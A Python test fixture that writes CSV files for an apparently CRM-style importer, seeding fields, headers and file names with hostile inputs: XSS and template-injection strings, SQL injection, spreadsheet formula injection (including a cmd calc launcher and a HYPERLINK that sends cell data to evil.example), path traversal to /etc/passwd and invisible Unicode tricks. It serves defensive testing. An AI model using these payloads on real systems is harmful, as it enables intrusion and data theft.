"""A set of files in which every field, header and file name tries something: markup, formulas, code, tricks.

``write`` puts it into a folder; each kind of record that imports know is there, and a bait stands in
each of its fields that is text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

BAITS = (
    "<script>alert(document.domain);document.body.dataset.caught='1'</script>",
    '"><img src=x onerror="alert(1)" data-caught=1>',
    "'><svg/onload=alert(2) data-caught=1>",
    "</textarea></title><iframe srcdoc='<script>alert(3)</script>' data-caught=1></iframe>",
    "javascript:alert(4)",
    "{{ 7|add:'35' }}{% debug %}{{ request.user.password }}${7*6}#{7*6}<%= 7*6 %>",
    "'; DROP TABLE book_account; --",
    "' OR 1=1 UNION SELECT password FROM people_user --",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u202egnp.exe\u202c \u200b\u200d\ufeff \u2066hidden\u2069",
    "nul\x00byte and bell\x07",
    "\N{PILE OF POO}\N{COMBINING ACUTE ACCENT}" * 20,
    "W" * 3_000,
    "../../../../etc/passwd",
    "<a href='//evil.example' onclick='alert(5)' style='position:fixed;inset:0' data-caught=1>x</a>",
    "&lt;script&gt;alert(6)&lt;/script&gt;",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
FILES = {
    "accounts": "Account ID,Account Name,Website,Industry,Region,Segment,Tier,Owner,Owner Email,ARR,Status",
    "contacts": "Contact ID,Account ID,Contact Name,Email,Title,Role",
    "tickets": "Ticket ID,Account ID,Created,Subject,Priority,Status,Type,Assignee",
    "meetings": "Meeting ID,Account ID,Date,Type,Subject,Notes,Owner,Duration Minutes",
    "opportunities": "Opportunity ID,Account ID,Opportunity Name,Stage,Type,Amount,Created Date,Close Date",
    "subscriptions": "Subscription ID,Account ID,Product,Start Date,End Date,Renewal Date,ARR",
    "nps": "Response ID,Account ID,Date,Score,Comment",
    "notes": "Note ID,Account ID,Date,Kind,Text,Author",
}
PLAIN = {
    "Owner Email": "ben@example.com",
    "ARR": "120000",
    "Amount": "9000",
    "Created": "2026-03-02",
    "Date": "2026-03-02",
    "Created Date": "2026-02-02",
    "Close Date": "2026-05-04",
    "Start Date": "2025-06-02",
    "End Date": "2026-06-01",
    "Renewal Date": "2026-06-01",
    "Score": "3",
    "Duration Minutes": "30",
    "Status": "active",
    "Tier": "2",
}
OWN_COLUMN = '<b data-caught=1>"own" column</b>'


def write(folder: Path) -> list[Path]:
    """Write the files and return them; every bait is the name of an account."""
    return [_written(folder, kind, header.split(",")) for kind, header in FILES.items()]


def _written(folder: Path, kind: str, header: list[str]) -> Path:
    path = folder / f"{kind} <img src=x onerror=alert(7) data-caught=1>.csv"
    with path.open("w", newline="", encoding="utf-8") as stream:
        out = csv.writer(stream)
        out.writerow([*header, OWN_COLUMN, "=1+1"])
        out.writerows(_rows(header))
    return path


def _rows(header: list[str]) -> Iterator[list[str]]:
    bait = cycle(
        each for each in BAITS if "\x00" not in each
    )  # a row with a NUL is rejected, and so is shown
    for number, name in enumerate(BAITS):
        row = []
        for column in header:
            key = f"H-{number}"
            if column == "Account ID" or column == header[0]:
                row.append(key if column == "Account ID" else f"{column[0]}-{key}")
            elif column == "Account Name":
                row.append(f"{name} {number}")
            else:
                row.append(PLAIN.get(column) or next(bait))
        yield [*row, next(bait), next(bait)]
